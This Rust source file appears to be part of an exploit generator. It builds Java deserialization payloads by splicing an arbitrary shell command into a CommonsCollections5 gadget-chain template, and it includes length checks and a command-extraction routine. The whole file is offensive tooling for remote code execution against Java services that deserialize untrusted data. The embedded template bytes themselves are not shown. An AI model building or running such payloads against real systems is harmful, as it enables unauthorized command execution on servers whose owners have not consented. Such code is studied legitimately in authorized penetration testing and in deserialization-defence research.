//! Payload assembler: `prefix ++ [u16 BE len][modified UTF-8] ++ suffix`.
//!
//! Pure and single-pass. The template is shared read-only; every call
//! allocates its own output sized exactly up front.

use tracing::{debug, warn};

use crate::config::PayloadConfig;
use crate::constants::SHORT_UTF_LEN_WIDTH;
use crate::mutf8::{decode_short_utf, encoded_len, write_short_utf};
use crate::template::{commons_collections_5, BinaryTemplate, TemplateSection};
use crate::types::PayloadError;
use crate::utils::hex_preview;

/// Assembled serialized stream, owned by the caller.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Payload(Vec<u8>);

impl Payload {
    pub fn as_bytes(&self) -> &[u8] {
        &self.0
    }

    pub fn into_vec(self) -> Vec<u8> {
        self.0
    }

    pub fn len(&self) -> usize {
        self.0.len()
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    pub fn to_hex(&self) -> String {
        hex::encode(&self.0)
    }
}

impl AsRef<[u8]> for Payload {
    fn as_ref(&self) -> &[u8] {
        &self.0
    }
}

impl From<Payload> for Vec<u8> {
    fn from(p: Payload) -> Self {
        p.0
    }
}

/// Splices commands into one template.
#[derive(Debug, Clone, Copy)]
pub struct PayloadAssembler {
    template: &'static BinaryTemplate,
    max_command_len: usize,
}

impl PayloadAssembler {
    /// Bind a template. The config is validated here, so the cap always
    /// lies within 1..=65535.
    pub fn new(template: &'static BinaryTemplate, config: &PayloadConfig) -> Result<Self, PayloadError> {
        config.validate()?;
        Ok(Self {
            template,
            max_command_len: config.max_command_len,
        })
    }

    /// Assembler over the CommonsCollections5 template.
    ///
    /// Fails with `TemplateDecodeFailure` if the embedded literal is broken,
    /// or `Config` if `config` does not validate.
    pub fn commons_collections_5(config: &PayloadConfig) -> Result<Self, PayloadError> {
        Self::new(commons_collections_5()?, config)
    }

    pub fn template(&self) -> &'static BinaryTemplate {
        self.template
    }

    pub fn max_command_len(&self) -> usize {
        self.max_command_len
    }

    /// Build the payload for `command`.
    pub fn assemble(&self, command: &str) -> Result<Payload, PayloadError> {
        let utf_len = encoded_len(command);
        if utf_len > self.max_command_len {
            warn!(
                template = self.template.name(),
                utf_len,
                max = self.max_command_len,
                "command rejected: too large"
            );
            return Err(PayloadError::PayloadTooLarge { have: utf_len, max: self.max_command_len });
        }

        let total = self.template.fixed_len() + SHORT_UTF_LEN_WIDTH + utf_len;
        let mut out = Vec::with_capacity(total);
        out.extend_from_slice(self.template.prefix());
        write_short_utf(&mut out, command)?;
        out.extend_from_slice(self.template.suffix());

        debug_assert_eq!(out.len(), total, "assembler wrote incorrect length");
        debug!(
            template = self.template.name(),
            utf_len,
            payload_len = out.len(),
            head = %hex_preview(&out, 8),
            "assembled payload"
        );
        Ok(Payload(out))
    }

    /// Read the command back out of an assembled payload.
    ///
    /// Checks that everything around the insertion point matches the
    /// template byte for byte.
    pub fn extract_command(&self, payload: &[u8]) -> Result<String, PayloadError> {
        let prefix = self.template.prefix();
        let suffix = self.template.suffix();

        let rest = payload
            .strip_prefix(prefix)
            .ok_or(PayloadError::FramingMismatch { section: TemplateSection::Prefix })?;

        let (command, used) = decode_short_utf(rest)?;
        if &rest[used..] != suffix {
            return Err(PayloadError::FramingMismatch { section: TemplateSection::Suffix });
        }
        Ok(command)
    }
}

/// Assemble a CommonsCollections5 payload with default limits.
pub fn assemble(command: &str) -> Result<Payload, PayloadError> {
    PayloadAssembler::commons_collections_5(&PayloadConfig::default())?.assemble(command)
}
